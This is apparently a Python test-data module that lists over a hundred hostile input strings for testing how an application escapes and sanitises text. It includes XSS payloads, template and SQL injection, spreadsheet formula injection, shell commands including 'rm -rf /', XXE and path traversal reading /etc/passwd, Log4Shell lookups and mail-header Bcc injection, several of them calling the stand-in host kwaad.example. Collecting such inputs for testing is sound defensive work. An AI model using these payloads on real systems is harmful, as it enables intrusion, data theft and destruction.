"""More than a hundred texts that mean harm to a page, a mail, a paper, a sheet or a database.

tests/reminders/test_hostile.py has those that aim at the headers of a mail, and a thousand more.
"""

MARKUP = """\
<script>alert(1)</script>
<SCRIPT SRC=https://kwaad.example/x.js></SCRIPT>
<script src=//kwaad.example/x.js></script>
<script>alert(1)
<<script>alert(1)//<</script>
</script><script>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img src=https://kwaad.example/pixel.gif>
<img srcset="https://kwaad.example/x 1x" sizes=1px>
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
" onmouseover="alert(1)" x="
' onfocus='alert(1)' autofocus tabindex=1 x='
` onload=alert(1) x=`
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)></svg>#x"></use></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><script>alert(1)</script></mtext></math>
<math href="javascript:alert(1)">x</math>
<math><mi xlink:href="data:text/html,<script>alert(1)</script>">x</mi></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<listing><img src=x onerror=alert(1)></listing>
<template><script>alert(1)</script></template>
<textarea></textarea><script>alert(1)</script>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
</option></select><script>alert(1)</script>
</style><script>alert(1)</script>
<!--><script>alert(1)</script-->
--><script>alert(1)</script><!--
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></x>
<style>@import 'https://kwaad.example/x.css';</style>
<style>body{background:url(https://kwaad.example/x)}</style>
<p style="background:url(https://kwaad.example/x)">x</p>
<p style="position:fixed;inset:0;z-index:9">over alles heen</p>
<link rel=stylesheet href=https://kwaad.example/x.css>
<link rel=prefetch href=https://kwaad.example/x>
<base href=https://kwaad.example/>
<meta http-equiv=refresh content="0;url=https://kwaad.example/">
<iframe src=https://kwaad.example/></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>
<embed src=https://kwaad.example/x.swf>
<video src=https://kwaad.example/x autoplay onloadstart=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)>x</details>
<input autofocus onfocus=alert(1)>
<body onload=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<form action=https://kwaad.example/><button>Verder</button></form>
<button formaction=https://kwaad.example/>Verder</button>
<a href="javascript:alert(1)">klik</a>
<a href="jav&#x09;ascript:alert(1)">klik</a>
<a href="data:text/html,<script>alert(1)</script>">klik</a>
<a href="vbscript:msgbox(1)">klik</a>
<div hx-get=https://kwaad.example/ hx-trigger=load>x</div>
<div hx-on:load="alert(1)">x</div>
<div data-autosave=https://kwaad.example/>x</div>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
\uff1cscript\uff1ealert(1)\uff1c/script\uff1e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
**<script>alert(1)</script>** - <img src=x onerror=alert(1)>
[klik](javascript:alert(1)) ![x](https://kwaad.example/x)
javascript:alert(1)
data:text/html,<script>alert(1)</script>""".splitlines()

OTHER_TONGUES = """\
{{ 7|add:"7" }} {{ settings.SECRET_KEY }} {{ request.user.password }}
{% load x %}{% include "/etc/passwd" %}{% debug %}{% csrf_token %}
{% endblock %}{% endif %}{% endblocktranslate %}
{% comment %}
${7*7} #{7*7} <%= 7*7 %> *{7*7} @(7*7)
{0.__class__.__init__.__globals__} {first_name.__class__} {voornaam
%(name)s %s %d %n %99999999s
#read("/etc/passwd")
#image("/etc/passwd") #include "/etc/passwd" #import "@preview/x:1.0.0": *
#panic("x") #eval("1") #{ while true {} } #sys.inputs
$ integral x $ `code` ```raw``` <label> @ref // weg /* weg */ #set page(width: 1pt)
= Kop == Kop - lijst + lijst / term: woord \\ #link("https://kwaad.example/")[x]
=HYPERLINK("https://kwaad.example/","klik")
=cmd|'/C calc'!A0
+1+cmd|'/C calc'!A0
-2+3+cmd|'/C calc'!A0
@SUM(1+1)*cmd|'/C calc'!A0
=IMPORTXML("https://kwaad.example/","//a")
;=1+1;"=1+1
","=1+1
'; DROP TABLE people_person; --
' OR '1'='1
" UNION SELECT password FROM people_person --
1); DELETE FROM people_person; --
Robert'); DROP TABLE Students;--
$(touch /tmp/x) `touch /tmp/x` ; rm -rf / | cat & x
../../../../etc/passwd
..\\..\\windows\\system32
file:///etc/passwd \\\\kwaad.example\\x
!!python/object/apply:os.system ["x"]
{"__proto__": {"x": 1}} constructor.prototype
(&(uid=*)(!(x=y)))
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>
END:VCALENDAR BEGIN:VALARM ATTACH:https://kwaad.example/
${jndi:ldap://kwaad.example/x}
() { :;}; echo x""".splitlines()

SIGNS = [
    "\t=1+1",
    "\r=1+1",
    "Piet\r\nBcc: dief@kwaad.example",
    "Piet\nBcc: dief@kwaad.example\n\n<script>alert(1)</script>",
    "Piet\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
    "Piet\r\nATTENDEE:mailto:dief@kwaad.example\r\nBEGIN:VALARM",
    "Piet\u2028Bcc: dief@kwaad.example\u2029\x85\x0b\x0c\x1c\x1d\x1e",
    "\u202egnp.exe\u202c \u2066a\u2067b\u2068c\u2069\u061c\u200e\u200f",
    "nul\u200blange\u200cruimte\u200d\u2060\ufeff\u00ad\u180e",
    "\x01\x02\x1b[31mrood\x1b[0m\x07\x7f",
    "\x00",
    "👩‍👩‍👧‍👦🇳🇱🏳️‍🌈🫠 שלום مرحبا 漢字 İ ß ﷽ Ǆ ſ",
    "Z̷̢̛̺̙̯͉̱̘̥̭̗͍͋̐̀̑a̶̢͓̱͍͐̇̔͝l̴̛̘͉̓͂g̶̡̼̈́̔o̸̢͗",
    "\ufffe\uffff\U0010ffff\ue000\ufffd",
    "x" * 10_000,
    "woord " * 300,
    "é" * 998 + "\r\nBcc: dief@kwaad.example",
    "\u3164",
]
TEXTS = [*MARKUP, *OTHER_TONGUES, *SIGNS]
